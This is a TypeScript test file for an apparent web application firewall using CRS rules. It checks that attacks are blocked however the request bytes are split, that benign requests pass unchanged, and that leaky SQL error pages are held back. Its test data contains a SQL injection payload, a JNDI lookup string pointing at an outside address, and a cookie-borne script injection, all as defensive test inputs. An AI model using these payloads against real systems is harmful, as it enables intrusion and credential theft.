import test from 'ava';
import fc from 'fast-check';
import { crsEngine, paranoia } from '../../../helpers/crs-engine.js';
import { WebLab, type WebLabOptions } from '../../../helpers/web-lab.js';
import { WebMode } from '../../../../src/web/index.js';

const HEAD = 'Host: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\nAccept: text/html\r\n';
const MULTIPART = '--b0undary\r\nContent-Disposition: form-data; name="note"\r\n\r\nx\' UNION SELECT password FROM users-- -\r\n--b0undary--\r\n';
const SQL = "x' UNION SELECT password FROM users-- -";
const QUERY = encodeURIComponent(SQL);

function post(type: string, body: string): string {
  return `POST /form HTTP/1.1\r\n${HEAD}Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
}

const CHUNKED = `POST /form HTTP/1.1\r\n${HEAD}Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n7\r\nnote=x'\r\n${(QUERY.length - 1).toString(16)}\r\n${QUERY.slice(1)}\r\n0\r\n\r\n`;

const ATTACKS: readonly (readonly [string, string])[] = [
  ['query', `GET /item?id=${QUERY} HTTP/1.1\r\n${HEAD}\r\n`],
  ['urlencoded body', post('application/x-www-form-urlencoded', `note=${QUERY}`)],
  ['JSON body', post('application/json', JSON.stringify({ a: [1, { note: SQL }] }))],
  ['multipart body', post('multipart/form-data; boundary=b0undary', MULTIPART)],
  ['chunked body', CHUNKED],
  ['header', `GET / HTTP/1.1\r\n${HEAD}X-Api: \${jndi:ldap://203.0.113.9/a}\r\n\r\n`],
  ['cookie', `GET / HTTP/1.1\r\n${HEAD}Cookie: a=1; b=<script>alert(1)</script>\r\n\r\n`],
];

const BENIGN: readonly string[] = [
  `GET /shop/item?id=17&page=2 HTTP/1.1\r\n${HEAD}\r\n`,
  post('application/x-www-form-urlencoded', 'name=Ann+Smith&comment=I+like+it+a+lot'),
  post('application/json', JSON.stringify({ name: 'Ann', tags: ['a', 'b'], n: 3 })),
  post('multipart/form-data; boundary=b0undary', '--b0undary\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello there\r\n--b0undary--\r\n'),
];

function lab(o: Partial<WebLabOptions> = {}): WebLab {
  return new WebLab({ engine: crsEngine(), noRules: true, ...o });
}

function ruleIds(l: WebLab): number[] {
  return l.events[0]?.rules.map((r) => r.id) ?? [];
}

for (const [where, request] of ATTACKS) {
  test(`an attack in the ${where} is blocked before the server has the request`, (t) => {
    const l = lab({ block: 'page' });
    l.client(request);
    t.is(l.served, '');
    t.is(l.events[0]?.web.action, 'blocked');
    t.is(l.events[0]?.web.rule_id, 949110);
    t.true(ruleIds(l).some((id) => id < 949000), 'the event names the rules that scored');
    t.regex(l.seen, /^HTTP\/1\.1 403 /);
  });

  test(`an attack in the ${where} cut at any byte gets the same verdict`, (t) => {
    const whole = lab();
    whole.client(request);
    const expected = ruleIds(whole);
    // Every place to cut once, and every byte in a packet of its own.
    const cuts = [...Array.from({ length: request.length - 1 }, (_, i) => [i + 1]), Array<number>(request.length).fill(1)];
    for (const sizes of cuts) {
      const l = whole.reconnect();
      l.client(request, ...sizes);
      if (l.served.length >= request.length || l.events.length !== 1 || ruleIds(l).join() !== expected.join()) {
        t.fail(`cut ${sizes.slice(0, 3).join()}: ${l.served.length} of ${request.length} bytes, rules ${ruleIds(l).join()} instead of ${expected.join()}`);
        return;
      }
    }
    t.pass();
  });
}

test('any way to cut, repeat and reorder gives the same verdict', (t) => {
  fc.assert(
    fc.property(fc.constantFrom(...ATTACKS), fc.array(fc.integer({ min: 1, max: 60 }), { maxLength: 12 }), fc.boolean(), fc.boolean(), ([, request], sizes, swap, hold) => {
      const l = lab(hold ? { hold: { requestBytes: 8192, memcap: 1 << 20, timeoutMs: 400 } } : {});
      const pieces: { at: number; text: string }[] = [];
      let at = 0;
      for (const size of [...sizes, request.length]) {
        if (at < request.length) pieces.push({ at, text: request.slice(at, at + size) });
        at += size;
      }
      if (swap) for (let i = 0; i + 1 < pieces.length; i += 2) [pieces[i], pieces[i + 1]] = [pieces[i + 1]!, pieces[i]!];
      for (const piece of pieces) l.put(0, l.frame(piece.at, piece.text));
      for (const piece of pieces) l.put(0, l.frame(piece.at, piece.text));
      return l.served.length < request.length && l.events.length === 1 && l.events[0]!.web.action === 'blocked' && l.unaccounted === 0 && l.errors === 0;
    }),
    { numRuns: 60 },
  );
  t.pass();
});

test('ordinary requests pass unchanged and raise nothing', (t) => {
  for (const request of BENIGN) {
    const l = lab({ hold: { requestBytes: 8192, memcap: 1 << 20, timeoutMs: 400 } });
    l.client(request, 50, 100);
    l.server('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 15\r\n\r\n<h1>Hello</h1>\n');
    t.is(l.served, request);
    t.deepEqual(l.events, []);
    t.true(l.seen.endsWith('</h1>\n'));
  }
});

test('an error page that tells too much is kept back', (t) => {
  const l = lab({ block: 'page' });
  l.client(BENIGN[0]!);
  const page = "<b>Warning</b>: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax";
  l.server(`HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${page.length}\r\n\r\n${page}`);
  t.is(l.events[0]?.web.phase, 4);
  t.false(l.seen.includes('MySQL'));
  t.regex(l.seen, /^HTTP\/1\.1 403 /, 'it fits one packet, so a page can take its place');
});

test('settings differ by VM and host over one rule set', (t) => {
  const overrides = [
    { name: 'strict', vms: ['server'], hosts: ['*.example'], variables: paranoia(4), exclusions: [] },
    { name: 'blog', vms: null, hosts: ['blog.example'], mode: WebMode.DETECT, variables: new Map<string, string>(), exclusions: [crsEngine().exclusion({ rules: 'tag:attack-sqli', target: 'ARGS:id' })] },
  ] as const;
  const odd = `GET /item?id=%3B HTTP/1.1\r\n${HEAD}\r\n`;
  const plain = lab();
  plain.client(odd);
  t.deepEqual(plain.events, []);
  const strict = lab({ overrides });
  strict.client(odd);
  strict.close();
  t.deepEqual(strict.events[0]?.web.overrides, ['strict']);
  const blog = lab({ overrides });
  blog.client(ATTACKS[0]![1].replace('shop.example', 'blog.example'));
  blog.close();
  t.is(blog.events[0]?.web.action === 'blocked', false);
  t.deepEqual(blog.events[0]?.web.overrides, ['strict', 'blog']);
  t.false(ruleIds(blog).some((id) => id >= 942000 && id < 943000), String(ruleIds(blog)));
});
